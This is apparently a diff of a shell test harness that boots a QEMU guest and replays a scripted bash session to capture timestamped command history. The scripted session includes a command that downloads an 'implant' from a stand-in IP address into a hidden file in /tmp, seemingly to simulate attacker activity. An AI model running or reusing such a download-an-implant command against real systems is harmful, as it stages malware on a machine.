@@ -87,7 +87,7 @@ cp actor root/bin/actor
 if [ ! -x bash ]; then
     [ -n "${BASH_DEB:-}" ] || apt-get download -q bash-static
     dpkg -x "${BASH_DEB:-$(ls "$PWD"/bash-static_*.deb | head -1)}" shell
-    cp "$(find shell -name bash-static -type f)" bash
+    cp shell/bin/bash-static bash
 fi
 cp bash root/bin/bash
 names="virtio_ring virtio virtio_pci_modern_dev virtio_pci_legacy_dev virtio_pci virtio_blk dummy nls_utf8"
@@ -146,7 +146,7 @@ set -o history
 cd /tmp
 curl -s http://203.0.113.66/implant -o /tmp/.y
 HISTTIMEFORMAT='%s ' history > /tmp/history
-sleep 1000000
+/bin/busybox sleep 1000000
 TYPED
 /bin/bash --norc < /tmp/typed &
 \$bb sleep 2
@@ -199,7 +199,7 @@ qemu-system-x86_64 -accel $accel -cpu $cpu -m "$mib" -smp 2 -display none -no-re
     -serial file:console.txt -drive file=disk.raw,format=raw,if=virtio -monitor unix:monitor,server,nowait &
 qemu=$!
 trap 'kill $qemu 2>/dev/null || true' EXIT
-for _ in $(seq 240); do
+for _ in $(seq 600); do
     grep -q 'GUEST IS READY' console.txt 2>/dev/null && break
     kill -0 $qemu 2>/dev/null || { echo "the guest stopped:" >&2; tail -20 console.txt >&2; exit 1; }
     sleep 0.5
